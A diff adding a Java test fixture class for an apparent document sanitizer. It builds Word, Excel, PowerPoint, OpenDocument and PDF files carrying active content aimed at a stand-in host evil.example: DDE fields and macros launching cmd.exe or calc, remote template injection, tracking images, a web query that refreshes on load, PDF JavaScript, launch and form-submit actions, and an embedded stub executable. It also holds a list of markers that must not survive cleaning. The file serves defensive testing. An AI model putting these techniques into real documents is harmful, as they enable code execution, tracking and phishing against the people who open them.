@@ -1,0 +1,342 @@
+package org.sandyq.sanitizer;
+
+import static org.sandyq.sanitizer.Bin.ascii;
+import static org.sandyq.sanitizer.Bin.cat;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.util.List;
+import org.apache.pdfbox.cos.COSArray;
+import org.apache.pdfbox.cos.COSDictionary;
+import org.apache.pdfbox.cos.COSName;
+import org.apache.pdfbox.cos.COSStream;
+import org.apache.pdfbox.cos.COSString;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDPage;
+import org.apache.pdfbox.pdmodel.PDPageContentStream;
+import org.apache.pdfbox.pdmodel.common.PDRectangle;
+import org.apache.pdfbox.pdmodel.font.PDType1Font;
+import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
+
+/**
+ * Documents built the way an adversary would: every kind of content that loads, runs or sends
+ * something when a lawyer opens the file, next to evidence text and a picture that must survive.
+ * Outside addresses use the host {@code evil.example} (or a {@code \\evil} share), so a scan for
+ * that host finds any that was left.
+ */
+final class ActiveFixtures {
+  private ActiveFixtures() {}
+
+  static final String EVIL = "evil.example";
+  static final String WEB_LINK = "https://example.org/wages";
+  static final String XML = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";
+  static final String RELS = "http://schemas.openxmlformats.org/package/2006/relationships";
+  static final String OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+  static final String MSREL = "http://schemas.microsoft.com/office/2006/relationships";
+  static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
+  static final byte[] OLE = cat(new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1},
+      new byte[504], ascii("SQMK-ole-author Company SQMK-ole-company MZ\u0090"));
+  static final String DOCX_TEXT = "EVIDENCE-ACTIVE the employer kept the passports";
+
+  static String rel(String id, String type, String target, boolean external) {
+    return "<Relationship Id=\"" + id + "\" Type=\"" + type + "\" Target=\"" + target + "\""
+        + (external ? " TargetMode=\"External\"" : "") + "/>";
+  }
+
+  static String rels(String... relationships) {
+    return XML + "<Relationships xmlns=\"" + RELS + "\">" + String.join("", relationships) + "</Relationships>";
+  }
+
+  static String types(String mainPart, String mainType, String... overrides) {
+    StringBuilder s = new StringBuilder(XML + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+        + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+        + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
+        + "<Default Extension=\"png\" ContentType=\"image/png\"/>"
+        + "<Default Extension=\"bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>"
+        + "<Override PartName=\"/" + mainPart + "\" ContentType=\"" + mainType + "\"/>");
+    for (int i = 0; i < overrides.length; i += 2) {
+      s.append("<Override PartName=\"/").append(overrides[i]).append("\" ContentType=\"").append(overrides[i + 1]).append("\"/>");
+    }
+    return s.append("</Types>").toString();
+  }
+
+  /** A complex field whose instruction is split over two runs, with a result run. */
+  static String field(String part1, String part2, String result) {
+    return "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\">" + part1
+        + "</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">" + part2 + "</w:instrText></w:r>"
+        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>" + result + "</w:t></w:r>"
+        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
+  }
+
+  /** A Word document with a plain docx content type and every active-content class of Word inside. */
+  static byte[] docx() {
+    return docx("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml");
+  }
+
+  static byte[] docx(String mainType) {
+    String doc = XML + "<w:document xmlns:w=\"" + W + "\" xmlns:r=\"" + OD + "\""
+        + " xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\""
+        + " xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><w:body>"
+        + "<w:p><w:r><w:t>" + DOCX_TEXT + "</w:t></w:r></w:p>"
+        // loads a picture from outside on opening, split so that no single run says INCLUDEPICTURE
+        + "<w:p>" + field(" INCLUDE", "PICTURE \"http://" + EVIL + "/p.png\" \\d ", "EVIDENCE-ACTIVE-field-result") + "</w:p>"
+        + "<w:p>" + field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ", "EVIDENCE-ACTIVE-dde-result") + "</w:p>"
+        + "<w:p><w:fldSimple w:instr=\" INCLUDETEXT &quot;\\\\\\\\" + EVIL + "\\\\share\\\\x.docx&quot; \"><w:r><w:t>EVIDENCE-ACTIVE-simple-result</w:t></w:r></w:fldSimple></w:p>"
+        + "<w:p><w:fldSimple w:instr=\" PAGE \"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
+        + "<w:p><w:hyperlink r:id=\"rIdWeb\"><w:r><w:t>EVIDENCE-ACTIVE-weblink</w:t></w:r></w:hyperlink>"
+        + "<w:hyperlink r:id=\"rIdFile\"><w:r><w:t>EVIDENCE-ACTIVE-filelink</w:t></w:r></w:hyperlink></w:p>"
+        + "<w:p><w:r><w:drawing><a:blip r:embed=\"rIdPic\"/></w:drawing></w:r>"
+        + "<w:r><w:drawing><a:blip r:link=\"rIdRemote\"/></w:drawing></w:r></w:p>"
+        + "<w:p><w:r><w:object><v:shape><v:imagedata r:id=\"rIdPic\" o:title=\"\"/></v:shape>"
+        + "<o:OLEObject Type=\"Embed\" ProgID=\"Package\" r:id=\"rIdOle\"/></w:object></w:r></w:p>"
+        + "<w:p><w:r><w:object><o:OLEObject Type=\"Link\" ProgID=\"Excel.Sheet.12\" r:id=\"rIdOleLink\" UpdateMode=\"Always\"/></w:object></w:r></w:p>"
+        + "<w:p><w:r><w:control r:id=\"rIdAx\" w:name=\"TextBox1\"/></w:r></w:p>"
+        + "</w:body></w:document>";
+    String docRels = rels(
+        rel("rIdWeb", OD + "/hyperlink", WEB_LINK, true),
+        rel("rIdFile", OD + "/hyperlink", "file:///\\\\" + EVIL + "\\share\\x.exe", true),
+        rel("rIdPic", OD + "/image", "media/image1.png", false),
+        rel("rIdRemote", OD + "/image", "http://" + EVIL + "/track.png", true),
+        rel("rIdOle", OD + "/oleObject", "embeddings/oleObject1.bin", false),
+        rel("rIdOleLink", OD + "/oleObject", "file:///\\\\" + EVIL + "\\share\\wages.xlsx", true),
+        rel("rIdAx", OD + "/control", "activeX/activeX1.xml", false),
+        rel("rIdVba", MSREL + "/vbaProject", "vbaProject.bin", false),
+        rel("rIdHidden", MSREL + "/vbaProject", "data.bin", false),
+        rel("rIdPkg", OD + "/package", "embeddings/Microsoft_Word_Document.docx", false),
+        rel("rIdExe", OD + "/package", "embeddings/payload.exe", false),
+        rel("rIdSet", OD + "/settings", "settings.xml", false));
+    String settings = XML + "<w:settings xmlns:w=\"" + W + "\" xmlns:r=\"" + OD + "\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>";
+    String settingsRels = rels(rel("rId1", OD + "/attachedTemplate", "http://" + EVIL + "/Normal.dotm", true));
+    String pkgRels = rels(rel("rId1", OD + "/officeDocument", "word/document.xml", false),
+        rel("rId2", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", false));
+    String customUi = "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"AutoOpen\"/>";
+    String activeX = XML + "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{8BD21D10-EC42-11CE-9E0D-00AA006002F3}\"/>";
+    return Corpus.zip(false, new String[][] {
+      {"[Content_Types].xml", types("word/document.xml", mainType)},
+      {"_rels/.rels", pkgRels},
+      {"word/document.xml", doc}, {"word/_rels/document.xml.rels", docRels},
+      {"word/settings.xml", settings}, {"word/_rels/settings.xml.rels", settingsRels},
+      {"word/media/image1.png", Corpus.b64(Corpus.encode(Corpus.picture(16, 12), "png"))},
+      {"word/embeddings/oleObject1.bin", Corpus.b64(OLE)},
+      {"word/embeddings/Microsoft_Word_Document.docx", Corpus.b64(Corpus.docx())},
+      {"word/embeddings/payload.exe", Corpus.b64(cat(ascii("MZ\u0090\u0000"), new byte[64]))},
+      {"word/activeX/activeX1.xml", activeX},
+      {"word/activeX/activeX1.bin", Corpus.b64(OLE)},
+      {"word/vbaProject.bin", Corpus.b64(OLE)},
+      {"word/data.bin", Corpus.b64(OLE)},
+      {"customUI/customUI14.xml", customUi},
+    });
+  }
+
+  static final String XLSX_TEXT = "EVIDENCE-ACTIVE wages owed 1200";
+
+  /** A macro-enabled workbook: a macro sheet, a link to another workbook, a web query, VBA. */
+  static byte[] xlsm() {
+    String s = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+    String workbook = XML + "<workbook xmlns=\"" + s + "\" xmlns:r=\"" + OD + "\"><fileSharing userName=\"SQMK-xlsx-sharing-user\"/>"
+        + "<sheets><sheet name=\"Wages\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"Macro1\" sheetId=\"2\" r:id=\"rId2\"/></sheets>"
+        + "<definedNames><definedName name=\"Total\">Wages!$A$1</definedName></definedNames>"
+        + "<externalReferences><externalReference r:id=\"rId3\"/></externalReferences></workbook>";
+    String sheet = XML + "<worksheet xmlns=\"" + s + "\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>" + XLSX_TEXT
+        + "</t></is></c></row></sheetData></worksheet>";
+    String macro = XML + "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>";
+    String link = XML + "<externalLink xmlns=\"" + s + "\" xmlns:r=\"" + OD + "\"><externalBook r:id=\"rId1\"/></externalLink>";
+    String wbRels = rels(rel("rId1", OD + "/worksheet", "worksheets/sheet1.xml", false),
+        rel("rId2", MSREL + "/xlMacrosheet", "macrosheets/sheet2.xml", false),
+        rel("rId3", OD + "/externalLink", "externalLinks/externalLink1.xml", false),
+        rel("rId4", OD + "/connections", "connections.xml", false),
+        rel("rId5", MSREL + "/vbaProject", "vbaProject.bin", false));
+    String connections = XML + "<connections xmlns=\"" + s + "\"><connection id=\"1\" name=\"q\" type=\"4\" refreshOnLoad=\"1\">"
+        + "<webPr url=\"http://" + EVIL + "/q\"/></connection></connections>";
+    return Corpus.zip(false, new String[][] {
+      {"[Content_Types].xml", types("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
+          "xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml")},
+      {"_rels/.rels", rels(rel("rId1", OD + "/officeDocument", "xl/workbook.xml", false))},
+      {"xl/workbook.xml", workbook}, {"xl/_rels/workbook.xml.rels", wbRels},
+      {"xl/worksheets/sheet1.xml", sheet}, {"xl/macrosheets/sheet2.xml", macro},
+      {"xl/externalLinks/externalLink1.xml", link},
+      {"xl/externalLinks/_rels/externalLink1.xml.rels", rels(rel("rId1", OD + "/externalLinkPath", "file:///\\\\" + EVIL + "\\share\\other.xlsx", true))},
+      {"xl/connections.xml", connections},
+      {"xl/vbaProject.bin", Corpus.b64(OLE)},
+    });
+  }
+
+  static final String PPTX_TEXT = "EVIDENCE-ACTIVE raid on 2 November";
+
+  /** A presentation with a picture linked from outside and comment authors. */
+  static byte[] pptx() {
+    String p = "http://schemas.openxmlformats.org/presentationml/2006/main";
+    String slide = XML + "<p:sld xmlns:p=\"" + p + "\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\""
+        + " xmlns:r=\"" + OD + "\"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>" + PPTX_TEXT + "</a:t></a:r></a:p>"
+        + "</p:txBody></p:sp><p:pic><p:blipFill><a:blip r:link=\"rId2\"/></p:blipFill></p:pic></p:spTree></p:cSld></p:sld>";
+    String authors = XML + "<p:cmAuthorLst xmlns:p=\"" + p + "\"><p:cmAuthor id=\"0\" name=\"SQMK-pptx-author\" initials=\"SQ\"/></p:cmAuthorLst>";
+    return Corpus.zip(false, new String[][] {
+      {"[Content_Types].xml", types("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")},
+      {"_rels/.rels", rels(rel("rId1", OD + "/officeDocument", "ppt/presentation.xml", false))},
+      {"ppt/presentation.xml", XML + "<p:presentation xmlns:p=\"" + p + "\" xmlns:r=\"" + OD + "\"><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst></p:presentation>"},
+      {"ppt/_rels/presentation.xml.rels", rels(rel("rId1", OD + "/slide", "slides/slide1.xml", false),
+          rel("rId2", OD + "/commentAuthors", "commentAuthors.xml", false))},
+      {"ppt/slides/slide1.xml", slide},
+      {"ppt/slides/_rels/slide1.xml.rels", rels(rel("rId2", OD + "/image", "\\\\" + EVIL + "\\share\\logo.png", true))},
+      {"ppt/commentAuthors.xml", authors},
+    });
+  }
+
+  static final String ODT_TEXT = "EVIDENCE-ACTIVE the police came with the employer";
+
+  /** An OpenDocument text with a linked picture, macros bound to events, DDE, an applet and an OLE object. */
+  static byte[] odt() {
+    String ns = " xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
+        + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\""
+        + " xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\""
+        + " xmlns:xlink=\"http://www.w3.org/1999/xlink\" xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\""
+        + " xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:meta=\"urn:oasis:names:tc:opendocument:xmlns:meta:1.0\"";
+    String content = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-content" + ns + " office:version=\"1.3\">"
+        + "<office:scripts><office:event-listeners><script:event-listener script:language=\"ooo:script\" script:event-name=\"dom:load\""
+        + " xlink:href=\"vnd.sun.star.script:Standard.Module1.AutoOpen?language=Basic&amp;location=document\"/></office:event-listeners></office:scripts>"
+        + "<office:body><office:text>"
+        + "<text:dde-connection-decls><text:dde-connection-decl office:name=\"x\" office:dde-application=\"cmd\" office:dde-topic=\"/c calc\" office:dde-item=\"a\" office:automatic-update=\"true\"/></text:dde-connection-decls>"
+        + "<text:p>" + ODT_TEXT + "</text:p>"
+        + "<text:p><text:a xlink:type=\"simple\" xlink:href=\"" + WEB_LINK + "\">EVIDENCE-ACTIVE-weblink</text:a>"
+        + "<text:a xlink:type=\"simple\" xlink:href=\"vnd.sun.star.script:Tools.Debug.Run?language=Basic&amp;location=application\">EVIDENCE-ACTIVE-macrolink</text:a></text:p>"
+        + "<text:p><draw:frame><draw:image xlink:href=\"http://" + EVIL + "/track.png\" xlink:type=\"simple\" xlink:show=\"embed\" xlink:actuate=\"onLoad\"/></draw:frame>"
+        + "<draw:frame><draw:image xlink:href=\"Pictures/photo.png\" xlink:type=\"simple\" xlink:show=\"embed\" xlink:actuate=\"onLoad\"/></draw:frame>"
+        + "<draw:frame><draw:object-ole xlink:href=\"./Object 1\" xlink:type=\"simple\" xlink:show=\"embed\" xlink:actuate=\"onLoad\"/>"
+        + "<draw:image xlink:href=\"./ObjectReplacements/Object 1\" xlink:type=\"simple\"/></draw:frame>"
+        + "<draw:frame><draw:object xlink:href=\"./Object 2\" xlink:type=\"simple\" xlink:show=\"embed\" xlink:actuate=\"onLoad\"/></draw:frame>"
+        + "<draw:frame><draw:applet draw:code=\"Evil.class\" xlink:href=\"http://" + EVIL + "/applet/\"/></draw:frame></text:p>"
+        + "<text:section text:name=\"s\"><text:section-source xlink:href=\"file:///\\\\" + EVIL + "\\share\\x.odt\"/></text:section>"
+        + "<text:p>EVIDENCE-ACTIVE-comment-anchor<office:annotation><dc:creator>SQMK-odt-comment-author</dc:creator><text:p>x</text:p></office:annotation></text:p>"
+        + "</office:text></office:body></office:document-content>";
+    String objectMeta = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-meta" + ns + " office:version=\"1.3\"><office:meta>"
+        + "<dc:creator>SQMK-odt-object-creator</dc:creator><meta:initial-creator>SQMK-odt-object-initial</meta:initial-creator></office:meta></office:document-meta>";
+    String objectContent = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-content" + ns + " office:version=\"1.3\"><office:body><office:chart/></office:body></office:document-content>";
+    String manifest = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">"
+        + "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
+        + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>"
+        + "<manifest:file-entry manifest:full-path=\"Pictures/photo.png\" manifest:media-type=\"image/png\"/>"
+        + "<manifest:file-entry manifest:full-path=\"Object 1\" manifest:media-type=\"application/vnd.sun.star.oleobject\"/>"
+        + "<manifest:file-entry manifest:full-path=\"ObjectReplacements/Object 1\" manifest:media-type=\"application/x-openoffice-wmf;windows_formatname=&quot;Image WMF&quot;\"/>"
+        + "<manifest:file-entry manifest:full-path=\"Object 2/\" manifest:media-type=\"application/vnd.oasis.opendocument.chart\"/>"
+        + "<manifest:file-entry manifest:full-path=\"Object 2/meta.xml\" manifest:media-type=\"text/xml\"/>"
+        + "<manifest:file-entry manifest:full-path=\"Object 2/content.xml\" manifest:media-type=\"text/xml\"/>"
+        + "<manifest:file-entry manifest:full-path=\"Basic/\" manifest:media-type=\"\"/>"
+        + "<manifest:file-entry manifest:full-path=\"Basic/Standard/Module1.xml\" manifest:media-type=\"text/xml\"/>"
+        + "</manifest:manifest>";
+    String module = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"Module1\" script:language=\"StarBasic\">Sub AutoOpen\nShell(&quot;calc&quot;)\nEnd Sub</script:module>";
+    return Corpus.zip(true, new String[][] {
+      {"mimetype", "application/vnd.oasis.opendocument.text"},
+      {"content.xml", content},
+      {"Pictures/photo.png", Corpus.b64(Corpus.encode(Corpus.picture(16, 12), "png"))},
+      {"Object 1", Corpus.b64(OLE)},
+      {"ObjectReplacements/Object 1", Corpus.b64(ascii("\u00d7\u00cd\u00c6\u009a wmf placeholder"))},
+      {"Object 2/meta.xml", objectMeta}, {"Object 2/content.xml", objectContent},
+      {"Basic/Standard/Module1.xml", module},
+      {"META-INF/manifest.xml", manifest},
+    });
+  }
+
+  static final String PDF_TEXT = "EVIDENCE-ACTIVE wages unpaid since March";
+
+  private static COSDictionary action(String type, String key, COSString value) {
+    COSDictionary a = new COSDictionary();
+    a.setName(COSName.TYPE, "Action");
+    a.setName(COSName.S, type);
+    if (key != null) {
+      a.setItem(COSName.getPDFName(key), value);
+    }
+    return a;
+  }
+
+  private static COSDictionary link(float x, COSDictionary action) {
+    COSDictionary l = new COSDictionary();
+    l.setName(COSName.TYPE, "Annot");
+    l.setName(COSName.SUBTYPE, "Link");
+    COSArray rect = new COSArray();
+    for (float v : new float[] {x, 10, x + 20, 30}) {
+      rect.add(new org.apache.pdfbox.cos.COSFloat(v));
+    }
+    l.setItem(COSName.RECT, rect);
+    l.setItem(COSName.A, action);
+    return l;
+  }
+
+  /** A PDF that opens a web address when opened, runs scripts, launches, submits, carries XFA and a program. */
+  static byte[] pdf() {
+    try (PDDocument doc = new PDDocument()) {
+      PDPage page = new PDPage(PDRectangle.A6);
+      doc.addPage(page);
+      try (PDPageContentStream cs = new PDPageContentStream(doc, page, PDPageContentStream.AppendMode.OVERWRITE, false)) {
+        cs.beginText();
+        cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 10);
+        cs.newLineAtOffset(20, 300);
+        cs.showText(PDF_TEXT);
+        cs.endText();
+      }
+      COSDictionary catalog = doc.getDocumentCatalog().getCOSObject();
+      COSDictionary open = action("URI", "URI", new COSString("http://" + EVIL + "/opened"));
+      open.setItem(COSName.NEXT, action("JavaScript", "JS", new COSString("app.launchURL('http://" + EVIL + "/js')")));
+      catalog.setItem(COSName.OPEN_ACTION, open);
+      COSDictionary aa = new COSDictionary();
+      aa.setItem(COSName.getPDFName("O"), action("URI", "URI", new COSString("http://" + EVIL + "/page-open")));
+      page.getCOSObject().setItem(COSName.AA, aa);
+      COSDictionary gotor = action("GoToR", "F", new COSString("\\\\" + EVIL + "\\share\\x.pdf"));
+      COSDictionary launch = action("Launch", "F", new COSString("cmd.exe"));
+      COSArray annots = new COSArray();
+      annots.add(link(10, action("URI", "URI", new COSString(WEB_LINK))));
+      annots.add(link(40, gotor));
+      annots.add(link(70, launch));
+      annots.add(link(100, action("URI", "URI", new COSString("file:///\\\\" + EVIL + "\\share"))));
+      annots.add(link(130, action("SubmitForm", "F", new COSString("http://" + EVIL + "/submit"))));
+      page.getCOSObject().setItem(COSName.ANNOTS, annots);
+      // a form with XFA (its own scripts and a submit address) and a field that submits
+      COSStream xfa = doc.getDocument().createCOSStream();
+      try (var o = xfa.createOutputStream()) {
+        o.write(ascii("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><script>xfa.host.gotoURL('http://" + EVIL + "/xfa')</script>"
+            + "<submit target=\"http://" + EVIL + "/submit\"/></xdp:xdp>"));
+      }
+      COSDictionary acro = new COSDictionary();
+      acro.setItem(COSName.FIELDS, new COSArray());
+      acro.setItem(COSName.getPDFName("XFA"), xfa);
+      catalog.setItem(COSName.ACRO_FORM, acro);
+      catalog.setBoolean(COSName.getPDFName("NeedsRendering"), true);
+      // JavaScript in the name tree and an executable attached as an embedded file
+      COSDictionary names = new COSDictionary();
+      COSDictionary js = new COSDictionary();
+      COSArray jsNames = new COSArray();
+      jsNames.add(new COSString("init"));
+      jsNames.add(action("JavaScript", "JS", new COSString("this.submitForm('http://" + EVIL + "/names')")));
+      js.setItem(COSName.NAMES, jsNames);
+      names.setItem(COSName.JAVA_SCRIPT, js);
+      COSStream exe = doc.getDocument().createCOSStream();
+      try (var o = exe.createOutputStream()) {
+        o.write(cat(ascii("MZ\u0090\u0000"), new byte[64], ascii("This program cannot be run in DOS mode")));
+      }
+      exe.setName(COSName.TYPE, "EmbeddedFile");
+      COSDictionary ef = new COSDictionary();
+      ef.setItem(COSName.F, exe);
+      COSDictionary spec = new COSDictionary();
+      spec.setName(COSName.TYPE, "Filespec");
+      spec.setString(COSName.F, "invoice.exe");
+      spec.setItem(COSName.EF, ef);
+      COSDictionary files = new COSDictionary();
+      COSArray fileNames = new COSArray();
+      fileNames.add(new COSString("invoice.exe"));
+      fileNames.add(spec);
+      files.setItem(COSName.NAMES, fileNames);
+      names.setItem(COSName.EMBEDDED_FILES, files);
+      catalog.setItem(COSName.NAMES, names);
+      ByteArrayOutputStream out = new ByteArrayOutputStream();
+      doc.save(out, org.apache.pdfbox.pdfwriter.compress.CompressParameters.NO_COMPRESSION);
+      return out.toByteArray();
+    } catch (IOException e) {
+      throw new UncheckedIOException(e);
+    }
+  }
+
+  static List<String> pdfNeverAfterCleaning() {
+    return List.of("/OpenAction", "/AA", "/GoToR", "/Launch", "/XFA", "/NeedsRendering", "/JavaScript", "/JS",
+        "/SubmitForm", "/EmbeddedFile", "This program cannot be run", EVIL);
+  }
+}
